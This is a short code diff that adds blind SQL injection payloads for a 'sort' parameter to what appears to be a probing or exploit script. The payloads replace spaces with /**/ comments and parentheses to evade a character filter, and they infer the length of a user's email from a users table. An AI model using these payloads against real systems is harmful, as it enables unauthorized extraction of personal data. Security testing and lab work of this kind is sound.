@@ -291,6 +291,11 @@ STEPS: dict[str, Callable[[], None]] = {
                      {"status": "all"}),
         ({"status": "all", "sort": "(CASE WHEN 1=1 THEN i.title ELSE i.id END)"},
          {"status": "all", "sort": "(CASE WHEN 1=2 THEN i.title ELSE i.id END)"}),
+        # without whitespace (a filter of spaces, ';', '--', '#'): comments or parentheses separate the words
+        oracle_pairs("sort", "(CASE/**/WHEN/**/(SELECT/**/LENGTH(email)/**/FROM/**/users/**/WHERE/**/id=4)={n}"
+                     "/**/THEN/**/i.title/**/ELSE/**/i.id/**/END)", {"status": "all"}),
+        oracle_pairs("sort", "IF((SELECT(LENGTH(email))FROM(users)WHERE(id=4))={n},i.title,i.id)", {"status": "all"}),
+        ({"status": "all", "sort": "IF(1=1,i.title,i.id)"}, {"status": "all", "sort": "IF(1=2,i.title,i.id)"}),
     ]),
 }
 
